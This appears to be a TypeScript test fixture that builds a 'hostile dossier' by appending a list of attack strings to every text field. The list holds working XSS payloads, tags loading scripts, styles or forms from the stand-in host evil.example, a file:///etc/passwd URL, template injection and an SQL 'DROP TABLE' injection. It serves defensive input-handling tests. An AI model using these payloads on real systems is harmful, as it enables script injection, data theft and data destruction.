import type { Dossier } from '../../src/main/domain/dossier/dossier.ts';
import { ARTICLE, aDossier, sha256 } from './dossiers.ts';

/**
 * What strangers write where a text is expected: markup, addresses, styles, queries and letters that
 * mislead. They report to evil.example, a name that nobody can have (RFC 2606).
 */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><foreignObject><iframe src="//evil.example">',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="//evil.example/x.swf">',
  '<style>@import "//evil.example/x.css"; *{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/b)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=x autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)" autofocus>press</a>',
  '<details open ontoggle=alert(1)>',
  '[press](javascript:alert(1)) ![x](//evil.example/y.png)',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '//evil.example/x lectern://evil file:///etc/passwd',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one for other languages
  '${alert(1)} {{constructor.constructor("alert(1)")()}} #{7*7}',
  "'); DROP TABLE review; --",
  '" OR 1=1 NEAR(a b) * AND NOT ^col:',
  '__proto__ constructor.prototype.x',
  '\u202Egnirts desrever\u202C \u200B\u200D\uFEFF',
  'Z\u0351\u036B\u0343\u036A\u0302\u036Balgo\u0330\u0323\u0332\u033C',
  'W'.repeat(110),
];

/** A dossier that is right in form and hostile in every word that it shows. */
export function aHostileDossier(): Dossier {
  let turn = 0;
  const taint = (text: string, most: number) => {
    turn += 1;
    return `${text} ${ATTACKS[turn % ATTACKS.length]}`.slice(0, most).trim();
  };
  // The attacks come after the text, so that every quotation keeps its place.
  const article = `${ARTICLE}\n\n${ATTACKS.join('\n\n')}`;
  const { header, entities, facts, notes, agenda, ...rest } = aDossier();
  return {
    ...rest,
    article,
    articleSha256: sha256(article),
    header: {
      ...header,
      articleSha256: sha256(article),
      title: taint(header.title, 200),
      dateline: taint(header.dateline, 120),
      source: taint(header.source, 240),
      topics: header.topics.map(({ id, name, about }) => ({
        id,
        name: taint(name, 60),
        about: taint(about, 240),
      })),
      roles: header.roles?.map(({ id, name, about }) => ({
        id,
        name: taint(name, 60),
        about: taint(about, 240),
      })),
    },
    entities: entities.map((entity) => ({
      ...entity,
      name: taint(entity.name, 120),
      aliases: [...entity.aliases, taint('Alias', 120)],
      description: taint(entity.description, 240),
      office: entity.office && taint(entity.office, 80),
    })),
    facts: facts.map((fact) => ({
      ...fact,
      statement: taint(fact.statement, 400),
      when: fact.when && { ...fact.when, what: taint(fact.when.what, 60) },
      answer: { ...fact.answer, accept: [taint(fact.answer.text, 200)] },
      distractors: fact.distractors?.map((text) => taint(text, 200)),
      cards: fact.cards.map((card) => ({ ...card, front: taint(card.front, 320) })),
    })),
    notes: notes.map((note) => ({ ...note, note: taint(note.note, 500) })),
    agenda: agenda.map((item) => ({ ...item, title: taint(item.title, 120) })),
  };
}
